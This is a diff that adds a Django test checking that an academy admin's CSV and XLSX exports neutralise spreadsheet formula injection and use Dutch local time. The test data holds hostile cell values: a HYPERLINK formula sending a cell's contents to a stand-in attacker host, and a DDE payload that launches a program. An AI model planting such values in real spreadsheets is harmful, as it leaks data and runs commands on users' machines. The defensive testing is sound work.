@@ -82,6 +82,58 @@ def test_enrolments_export_as_csv_and_xlsx(client, manager, course, enrolment):
     assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
 
 
+HOSTILE_NAME = '=HYPERLINK("https://kwaadwillend.example/?d="&A1,"Klik")'
+HOSTILE_ORGANISATION = "+cmd|' /C calc'!A0"
+
+
+def xlsx_rows(response):
+    from openpyxl import load_workbook
+
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    return [[cell.value for cell in row] for row in workbook.active.iter_rows()]
+
+
+def test_exports_neutralise_formulas_and_use_local_time(client, manager, make_course, user, enrol):
+    """Text that a spreadsheet would run as a formula starts with an apostrophe in every
+    academy export; times are Dutch local time, to the minute."""
+    from datetime import UTC, date, datetime
+
+    course = make_course(title="-Basiscursus")
+    enrolment = enrol(
+        user, course, participant_name=HOSTILE_NAME, organisation=HOSTILE_ORGANISATION
+    )
+    Enrolment.objects.filter(pk=enrolment.pk).update(
+        created_at=datetime(2026, 7, 1, 10, 15, 42, 123456, tzinfo=UTC)  # 12.15 in summer
+    )
+    enrolment.refresh_from_db()
+    complete_course(enrolment, course)
+    Certificate.objects.update(holder_name="@SUM(1+1)", issued_on=date(2026, 7, 2))
+    client.force_login(manager)
+
+    rows = list(
+        csv.reader(io.StringIO(download(client.get("/admin/academie_enrolments/?export=csv"))))
+    )
+    assert rows[1][0] == "'" + HOSTILE_NAME
+    assert rows[1][2] == "'" + HOSTILE_ORGANISATION
+    assert rows[1][3] == "'-Basiscursus"
+    assert rows[1][5] == "100"  # numbers stay numbers
+    assert rows[1][6] == "01-07-2026 12:15"
+    xlsx = xlsx_rows(client.get("/admin/academie_enrolments/?export=xlsx"))
+    assert xlsx[1][0] == "'" + HOSTILE_NAME
+    assert xlsx[1][6] == datetime(2026, 7, 1, 12, 15)
+
+    rows = list(
+        csv.reader(io.StringIO(download(client.get("/admin/academie_certificates/?export=csv"))))
+    )
+    assert rows[1][1:3] == ["'@SUM(1+1)", "'-Basiscursus"]
+    assert rows[1][4] == "02-07-2026"
+
+    rows = list(
+        csv.reader(io.StringIO(download(client.get("/admin/academie_completions/?export=csv"))))
+    )
+    assert rows[1] == ["'" + HOSTILE_ORGANISATION, "'-Basiscursus", "1", "1"]
+
+
 def test_manager_approves_a_request(client, manager, requested, django_capture_on_commit_callbacks):
     client.force_login(manager)
     listing = client.get("/admin/academie_enrolments/?status=aangevraagd").content.decode()
